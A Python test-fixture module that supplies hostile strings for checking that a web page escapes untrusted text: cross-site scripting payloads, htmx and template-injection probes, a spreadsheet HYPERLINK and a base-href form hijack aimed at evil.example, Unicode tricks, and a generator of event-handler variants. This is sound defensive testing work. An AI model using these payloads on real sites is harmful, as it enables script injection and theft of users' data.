"""Texts that would harm a page which takes them for anything but text. Each calls `pwned()` if it ever runs."""

import random

WHOLE = (
    "<script>pwned()</script>",
    "</td></table><script>pwned()</script>",
    "</textarea></title></style><script>pwned()</script>",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    '" autofocus onfocus=pwned() x="',
    "javascript:pwned()",
    "<svg onload=pwned()><animate onbegin=pwned() attributeName=x>",
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    "<style>*{display:none!important}</style>",
    "{{7*7}}{{ here.visitor }}{% raise %}${7*7}#{7*7}",
    '<div hx-get="/admin/evil" hx-trigger="load">x</div>',
    '<div hx-on:htmx:load="pwned()" hx-on::init="pwned()">x</div>',
    '<hx-partial hx-target="body">pwned</hx-partial>',
    "\u202egnidaer\u202d \u2066mixed\u2069 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "zero\u200bwidth\u200djoiner\ufeff" + "a\u0301\u0302\u0303\u0304" * 60,
    "W" * 10_000,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 80,
    '=HYPERLINK("http://evil.example","x")',
    "x\r\nevent: execute\r\ndata: pwned()\r\n\r\n",
    "nul\x00bell\x07escape\x1b[31m",
    "<base href='//evil.example/'><form action=//evil.example><input name=form_token>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned()&gt;'>",
    "&lt;script&gt;pwned()&lt;/script&gt;&#x3c;img src=x onerror=pwned()&#x3e;",
    "`-pwned()-`\\\\\"-pwned()-\"'-pwned()-'",
)
_TAGS = ("img", "svg", "video", "details open", "input autofocus", "body", "a href=javascript:pwned()", "object data=x")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "OnErRoR", "on\tload")
_BEFORE = ("", '"', "'", '">', "'>", "</option></select>", "-->", "]]>", "</script>", "\u202e", "%22%3e", '\\"')
_AFTER = ("", "//", "<!--", " x", "\u200b", "&#10;", "'", '"', "|safe}}", "M" * 300)


def strings(how_many: int, seed: int) -> list[str]:
    """Those of the list, in an order of chance, then others put together of parts."""
    chance = random.Random(seed)
    made = chance.sample(WHOLE, len(WHOLE))[:how_many]
    while len(made) < how_many:
        tag, event = chance.choice(_TAGS), chance.choice(_EVENTS)
        made.append(f"{chance.choice(_BEFORE)}<{tag} src=x {event}=pwned()>{chance.choice(_AFTER)}")
    return made
